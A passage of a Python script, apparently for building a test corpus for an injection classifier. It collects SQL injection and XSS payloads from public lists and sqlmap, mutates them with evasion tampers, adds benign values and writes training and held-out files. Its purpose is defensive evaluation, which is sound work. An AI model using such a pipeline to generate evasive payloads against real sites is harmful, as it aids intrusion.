    return text.replace("\n", "\r")


def read_source(name: str, plus: bool = False) -> list[str]:
    lines = (SOURCES / name).read_text(encoding="utf-8").split("\n")
    values = [_decoded(line, plus) for line in lines if line.strip()]
    return [v for v in values if v not in EXCLUDED_PROBES]


def unique(values: Iterable[str]) -> list[str]:
    seen: dict[str, None] = {}
    for value in values:
        if value and "\n" not in value:
            seen.setdefault(value, None)
    return list(seen)


def write(name: str, values: list[str]) -> None:
    (CORPUS / name).write_text("\n".join(values) + "\n", encoding="utf-8")
    print(f"{name}: {len(values)} values")


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("--sqlmap-dir", type=Path, default=None, help="an unpacked sqlmap wheel")
    args = parser.parse_args()
    rng = random.Random(SEED)
    with tempfile.TemporaryDirectory() as tmp:
        root = sqlmap_root(args.sqlmap_dir, Path(tmp))
        from_sqlmap = sqlmap_payloads(root, rng)
    tampered = []
    for name, tamper in sqli_tampers(rng):
        del name
        for base in SQLI_BASE:
            tampered.append(tamper(base))
        for base in rng.sample(from_sqlmap, 40):
            tampered.append(tamper(base))
    sqli = unique([
        *read_source("patt_sqli.txt"), *read_source("libinjection_sqli_misc.txt", plus=True),
        *SQLI_BASE, *from_sqlmap, *tampered,
    ])  # fmt: skip
    xss = unique([
        *read_source("patt_xss.txt"), *read_source("libinjection_xss_owasp.txt"),
        *XSS_BASE, *xss_generated(rng),
    ])  # fmt: skip
    benign_extra = (SOURCES / "benign_tricky.txt").read_text(encoding="utf-8").split("\n")
    benign = unique([*benign_extra, *benign_values(rng), *hard_benign_values(rng)])
    write("sqli.txt", sqli)
    write("xss.txt", xss)
    write("benign.txt", benign)
    write("integers.txt", unique(integer_values(rng)))
    # Held out: public lists the classifier was not tuned on, to check it generalizes.
    write(
        "heldout_sqli.txt",
        unique(
            [
                *read_source("heldout_libinjection_sqli_hackers.txt", plus=True),
                *read_source("heldout_patt_sqli.txt"),
            ]
        ),
    )
    write(
        "heldout_xss.txt",
        unique(
            [
                *read_source("heldout_libinjection_xss_html5sec.txt"),
                *read_source("heldout_patt_xss.txt"),
            ]
        ),
    )
    write(
        "heldout_benign.txt",
        unique(read_source("heldout_libinjection_false_positives.txt", plus=True)),
    )
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
